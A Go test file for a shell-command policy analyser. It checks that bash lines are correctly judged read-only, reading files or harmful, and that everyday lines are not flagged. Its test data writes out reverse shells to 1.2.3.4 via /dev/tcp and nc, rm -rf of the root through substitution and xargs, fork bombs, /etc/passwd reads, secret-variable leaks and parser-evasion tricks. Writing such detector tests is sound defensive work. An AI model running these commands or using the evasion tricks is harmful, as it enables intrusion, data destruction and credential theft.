package shell_test

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"jig/policy/shell"
)

// Each of these makes a file when bash runs it, though it looks as if it did not.
func TestCodeThatHidesFromTheParserIsNeverReadOnly(t *testing.T) {
	for _, line := range []string{
		`awk 'BEGIN{a=1system("touch made")}'`, `awk 'BEGIN{a=1.system("touch made")}'`, `awk 'BEGIN{a=.5system("touch made")}'`, `awk 'BEGIN{a=1e5system("touch made")}'`,
		"echo \"a$\\\n(touch made)\"", "cat <<< \"$\\\n(touch made)\"", "cat <<E\n$\\\n(touch made)\nE", "echo $\\\n(touch made)", "[[ -n \"$\\\n(touch made)\" ]]", "x=\"$\\\n(touch made)\"", "ls > \"$\\\n(touch made)x\"", "echo \"$\\\n\\\n(touch made)\"",
		"for x in \"$\\\n(touch made)\"; do :; done", "case \"$\\\n(touch made)\" in x) ;; esac", "(( $\\\n(touch made)1 ))", "echo {a,\"$\\\n(touch made)\"}", "x=(\"$\\\n(touch made)\")", "echo \"${y:-$\\\n(touch made)}\"", "declare x=\"$\\\n(touch made)\"",
		"x='$(touch made)'; echo \"$\\\n{x@P}\"", "x='$(touch made)'; echo \"${\\\nx@P}\"", "x='$(touch made)'; echo \"${x@\\\nP}\"", "x='$(touch made)'; echo \"${x\\\n@P}\"",
		"x='a[$(touch made)]'; ((0&&(x=1))); echo $((x))", "x='a[$(touch made)]'; ((1||(x=1))); echo $((x))", "x='a[$(touch made)]'; echo $((1?2:(x=1))); echo $((x))", "x='a[$(touch made)]'; echo $((0?(x=1):2)); echo $((x))",
		"x='a[$(touch made)]'; for((i=0;i<0;x=1)); do :; done; echo $((x))", "x='a[$(touch made)]'; for((i=0;i<0&&(x=1);i++)); do :; done; echo $((x))", "x='a[$(touch made)]'; for((i=0;i<0;i++)); do ((x=1)); done; echo $((x))",
		"x='a[$(touch made)]'; : ${y:+$((x=1))}; echo $((x))", "x='a[$(touch made)]'; : ${y:x=1}; echo $((x))", "x='a[$(touch made)]'; [[ -n '' && $((x=1)) -eq 1 ]]; echo $((x))", "x='a[$(touch made)]'; : ${y+$((x++))}; echo $((x))",
		"read x <<< 'a[$(touch made)]'; ((0&&(x=1))); echo $((x))",
		"x='a[$(touch made)]'; eval x=1 < nofile; echo $((x))", "x='a[$(touch made)]'; builtin eval x=1 <&9; ((x))", "x='a[$(touch made)]'; case a in a) ;; $((x=1))) ;; esac; ((x))",
	} {
		t.Run(line, func(t *testing.T) {
			dir := t.TempDir()
			a := shell.Analyse(line, shell.Options{Dir: dir, Home: home})
			if a.ReadOnly {
				t.Errorf("read-only: %+v", a)
			}
			runBash(t, dir, line)
			if _, err := os.Stat(filepath.Join(dir, "made")); err != nil {
				t.Logf("bash makes no file here: %v", err)
			}
		})
	}
}

// Each of these shows or reads what is not listed, or changes something.
func TestLinesThatReachFurtherThanTheyLookAreNeverReadOnly(t *testing.T) {
	for _, line := range []string{
		`awk 'BEGIN{x=1getline<"/etc/passwd";print $0}'`, `awk 'BEGIN{x=0x1getline<"f"}'`,
		"x=a; xy=/etc/passwd; cat \"$x\\\ny\"",
		"nm @args", "strings @args", "objdump -d @args", "readelf -a @args", "size @args", "nm -f @args x", "nm @*", "strings *",
		"sleep 9 & p=$!; kill -0 -s KILL $p", "kill -0 -n 9 12", "kill -0 -9 12", "kill -0 $p", "kill -0 \"$p\"", "kill -l $p",
		"POSIXLY_CORRECT=1 head README -n /etc/passwd", "POSIXLY_CORRECT=1 uniq README -c", "LC_ALL=zh_CN.GBK ls", "LANG=ja_JP.SJIS ls", "export LC_CTYPE=zh_TW.BIG5; ls", "env LC_ALL=zh_CN.GBK ls",
		"echo ${MY_SECRET_KEY:-x}", "echo ${MY_SECRET_KEY#x}", "echo ${MY_SECRET_KEY:0:4}", "echo ${MY_SECRET_KEY/a/b}", "echo ${MY_SECRET_KEY@Q}", "echo \"${MY_SECRET_KEY^^}\"", "cat <<< ${MY_SECRET_KEY:-x}", "echo ${MY_SECRET_KEY[0]}",
		"echo $DATABASE_URL", "printenv DATABASE_URL", "echo $SENTRY_DSN", "echo $AZURE_CONNECTION_STRING", "printenv REDIS_URL", "echo $MONGO_URI",
		"ps eww$$", "ps eww1", "ps e", "ps -ef e", "ps axe -o pid", "ps -E", "ps foo e", "ps -o args e", "ps -p 1 e", "ps -e -ax", "ps -ef -ux", "ps -ax -eu", "ps -e -gx", "ps -e -sax", "ps -eax", "ps -uewwx",
		"findmnt -p", "findmnt --poll", "suspend", "suspend -f",
	} {
		t.Run(line, func(t *testing.T) {
			if a := analyse(line); a.ReadOnly {
				t.Errorf("read-only: %+v", a)
			}
		})
	}
}

func TestWhatIsReadOutsideIsListedOrInDoubt(t *testing.T) {
	for _, line := range []string{
		"true && { cd /etc; exit --help; }; cat passwd", "true && { cd /etc; exit $x; }; cat passwd", "true && { cd /etc; exit \"$x\"; }; cat passwd", "true && { cd /etc; exit 1 < nofile; }; cat passwd", "true && { cd /etc; exit -- ; }; cat passwd",
		"bash -c 'cat \"$2\"' a* /etc/passwd inside", "shopt -s nullglob; bash -c 'cat \"$1\"' zz* inside /etc/passwd", "bash -c 'cat \"$1\"' $x inside /etc/passwd", "bash -c 'cat \"$@\"' a* b", "bash -s a* /etc/passwd inside <<< 'cat \"$2\"'",
		"findmnt -F /etc/passwd", "findmnt --tab-file=/etc/passwd",
	} {
		t.Run(line, func(t *testing.T) {
			a := analyse(line)
			listed := false
			for _, at := range a.Reads {
				listed = listed || at == "/etc/passwd"
			}
			if a.ReadOnly && !listed {
				t.Errorf("read-only and not listed: %+v", a)
			}
		})
	}
}

func TestEverydayLinesNearTheAttacksAreStillReadOnly(t *testing.T) {
	for _, line := range []string{
		`awk '{s+=$1*1.5e3} END{print s/2}' f`, `awk 'NR>10 && $2 != 0.5 {print $1 1}' f`, `awk -F: '{print $1}' f`, `awk '{print 1e5 " " .5}' f`,
		"echo \"a \\\nb\"", "grep -n x \\\n  f", "echo \"$(cat f \\\n  | head)\"", "echo \"cost: 5$ \\\nmore\"",
		"for ((i=0;i<3;i++)); do echo $i; done", "i=0; ((i++)); echo $((i))", "i=0; ((i<3 && (i=2))); echo $((i))", "n=$((2>1?3:4)); echo $((n))",
		"nm ./a.out", "strings -n 8 bin/x", "readelf -d lib.so", "kill -0 12", "kill -0 $!", "kill -l", "kill -l 9", "LC_ALL=C sort f", "LC_ALL=en_US.UTF-8 ls", "LANG=C.utf8 ls", "TZ=UTC date",
		"echo ${HOME:-x} ${PATH#x}", "echo ${#PATH}", "printenv PATH", "ps aux", "ps -ef", "ps -eo pid,etime,comm", "ps -o pid,etime -p 1", "ps axo pid,etime", "ps -C node", "ps -ef --forest", "ps aux --sort=-%mem", "ps -p 1 -o etime=", "ps -fu me", "ps -eLf", "ps -efww", "ps -ely", "ps -ef -u root", "ps -eopid,comm",
		"bash -c 'cat \"$1\"' _ a", "cd src || exit 1; cat a", "cd src || exit $?; cat a", "findmnt -T /x", "findmnt -o TARGET -t ext4", "findmnt",
	} {
		t.Run(line, func(t *testing.T) {
			if a := analyse(line); !a.ReadOnly {
				t.Errorf("%s", a.Why)
			}
		})
	}
}

func TestHarmThatSeveralPartsOfALineDoTogether(t *testing.T) {
	for _, line := range []string{
		"rm -rf /dev/fd/3/ 3</", "rm -rf /dev/fd/3/etc 3</", "rm -rf /proc/self/root", "rm -rf /proc/1/cwd/",
		"rm -rf \"$(echo /)\"", "rm -rf `printf /`", "rm -rf $(printf '%s\\n' /)", "rm -rf $(printf '\\057')", "rm -rf $(echo -n /etc)", "rm -rf $(echo a /)", "rm -rf $(echo /*)", "rm -rf ${x:-/}", "rm -rf \"${x:-/}\"", "rm -rf ${x-~}", "rm -rf ${x:=/usr}", "rm -rf ${x:-$(echo /)}", "sudo rm -rf \"$(echo \"/\")\"",
		"rm -rf ~/.[!.]*", "rm -rf /home/dev/.[!.]*", "rm -rf ~/.??*",
		"printf / | xargs rm -rf", "printf '/\\0' | xargs -0 rm -rf", "echo / | xargs -I% rm -rf %", "echo / | xargs -I % rm -rf %", "echo / | xargs -i rm -rf {}", "echo / | sudo xargs rm -rf", "echo a b / | xargs -n 1 rm -rf", "echo / | cat | xargs rm -rf", "xargs rm -rf <<< /", "echo '\"/\"' | xargs rm -rf", "bash -c 'echo / | xargs rm -rf'", "eval 'echo / | xargs rm -rf'", "cd / && echo etc | xargs rm -rf", "x=$(echo / | xargs rm -rf)",
		"find / -type f -print0 | xargs -0 rm -f", "find / | xargs rm -rf", "find ~ | xargs -I{} rm -rf {}", "find . -type f | sort | xargs rm",
		"f(){ \"f\"|'f'& };f", "f(){ eval f\\|f\\&; };f", "f(){ eval 'f|f&'; };f", "f(){ $FUNCNAME|$FUNCNAME& };f", "f(){ \"${FUNCNAME[0]}\" & \"$FUNCNAME\" & };f", "f(){ \\f|f& };f", "f(){ $(echo f)|f& };f",
		"while :; do bash -c \"$0\" & done", "while true; do ls & done", "for ((;;)); do sleep 9 & done", "until false; do ls & done",
		"exec 5<>/dev/tcp/1.2.3.4/9; cat <&5 | bash >&5", "exec 5<>/dev/tcp/1.2.3.4/9; while read l <&5; do eval \"$l\" >&5; done", "exec 5<>/dev/tcp/1.2.3.4/9; while read -u 5 l; do eval \"$l\" >&5; done", "exec 5<>/dev/tcp/1.2.3.4/9; . /dev/stdin <&5", "exec 5<>/dev/tcp/1.2.3.4/9; sh <&5 >&5 2>&5",
		"mkfifo p; nc 1.2.3.4 9 < p | sh > p", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 9 > /tmp/f", "mknod p p && telnet 1.2.3.4 9 0<p | /bin/bash 1>p",
	} {
		t.Run(line, func(t *testing.T) {
			if a := analyse(line); len(a.Harm) == 0 || a.ReadOnly {
				t.Errorf("no harm: %+v", a)
			}
		})
	}
}

func TestWhatOnlyLooksLikeHarmIsNone(t *testing.T) {
	for _, line := range []string{
		"rm -rf \"$(echo build)\"", "rm -rf ${OUT:-build}", "rm -rf \"${TMPDIR:-/tmp}/x\"", "rm -rf $(mktemp -d)", "rm -rf \"$x\"", "rm -rf ${X:?}/", "rm -rf ~/.cache/x*", "rm -rf build/.[!.]*",
		"echo build | xargs rm -rf", "printf 'a\\nb\\n' | xargs rm -f", "ls | xargs rm", "git ls-files | xargs rm -f", "find . -name '*.pyc' -print0 | xargs -0 rm -f", "find . -name '*.pyc' | xargs rm", "find / -name x | grep y | xargs rm", "find . -type f | xargs wc -l", "find . -type f | head -5 | xargs rm", "cd build && find . -type f | xargs rm", "cd \"$d\" && find . -type f | xargs rm -f", "echo / | xargs ls", "echo / | xargs -I% echo rm -rf %",
		"f(){ g|g& };f", "f(){ f; };f", "f(){ eval ls; };f", "f(){ echo $FUNCNAME; };f", "f(){ echo 'f|f&'; };f",
		"while true; do ls & sleep 1; done", "while read l; do ls & done < f", "for i in 1 2; do ls & done", "while :; do ls && ls 2>&1; done", "for ((i=0;i<3;i++)); do ls & done; wait",
		"exec 3<>/dev/tcp/example.com/80; printf 'GET /' >&3; cat <&3", "mkfifo p; ls > p & cat p", "nc -z h 1 | cat", "mkfifo p; bash x.sh < p",
	} {
		t.Run(line, func(t *testing.T) {
			if a := analyse(line); len(a.Harm) > 0 {
				t.Errorf("harm: %q", a.Harm)
			}
		})
	}
}

func TestATildeWithMoreBehindItIsNotTheHomeFolder(t *testing.T) {
	for _, line := range []string{`cat ~"/x"`, `cat ~''/x`, `x=a; cat ~$x`, "cat ~'q'", "cat ~\\\n\"/x\"", `cat < ~"/x"`, `x=b; cat a=~$x`} {
		t.Run(line, func(t *testing.T) {
			if a := analyse(line); a.ReadOnly {
				t.Errorf("read-only: %+v", a)
			}
		})
	}
	if a := analyse("cat ~/x; ls ~"); !a.ReadOnly {
		t.Error(a.Why)
	}
}

func TestARedirectionThatFailsRunsNothing(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		`x='a[$(touch made)]'; { x=1; } <&9; ((x))`,
		`x='a[$(touch made)]'; declare x=1 <&9; ((x))`,
		`x='a[$(touch made)]'; exec 1>&-; { x=1; } 2>&1; ((x))`,
	} {
		if a := shell.Analyse(line, shell.Options{Dir: "/p", Home: "/h"}); a.ReadOnly {
			t.Errorf("%s is called read-only", line)
		}
	}
	a := shell.Analyse("true && { cd /etc; { exit 1; } < nofile; }; cat passwd", shell.Options{Dir: "/p", Home: "/h"})
	if !slices.Contains(a.Reads, "/etc/passwd") {
		t.Errorf("reads %v", a.Reads)
	}
	if a := shell.Analyse("tar -cf /dev/null --remove-files /", shell.Options{Dir: "/p", Home: "/h"}); len(a.Harm) == 0 {
		t.Error("tar may delete the root of the file system")
	}
}

func TestGitConfigTakesADoubleDashForAValue(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]bool{
		"git config core.hooksPath --": false, "git config core.hooksPath": true, "git config --get user.name": true, "git config user.name bob": false,
	} {
		if a := shell.Analyse(line, shell.Options{Dir: "/p", Home: "/h"}); a.ReadOnly != want {
			t.Errorf("%s: read-only %v", line, a.ReadOnly)
		}
	}
}

func TestALoneDashIsNoOption(t *testing.T) {
	t.Parallel()
	for _, line := range []string{"for f in a; do printf - x; done", "while read -; do :; done", "for f in a; do unset -; done"} {
		if a := shell.Analyse(line, shell.Options{Dir: "/p", Home: "/h"}); a.Opaque == "the analysis of this line failed" {
			t.Errorf("%s: %s", line, a.Opaque)
		}
	}
}
